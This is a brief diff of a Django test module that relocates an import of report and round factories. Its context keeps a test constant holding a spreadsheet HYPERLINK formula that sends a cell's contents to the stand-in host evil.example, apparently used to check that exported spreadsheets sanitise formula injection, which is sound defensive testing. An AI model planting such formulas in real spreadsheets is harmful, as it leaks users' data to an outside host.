@@ -12,8 +12,7 @@ from openpyxl import load_workbook
 from accounts.testing import login_verified
 from catalogue.models import Indicator
 from lib.cells import safe_text
-
-from .factories import make_report, make_round, make_value
+from rounds.testing import make_report, make_round, make_value
 
 pytestmark = pytest.mark.django_db
 LINK = '=HYPERLINK("http://evil.example/?d="&A3,"Bấm vào đây")'
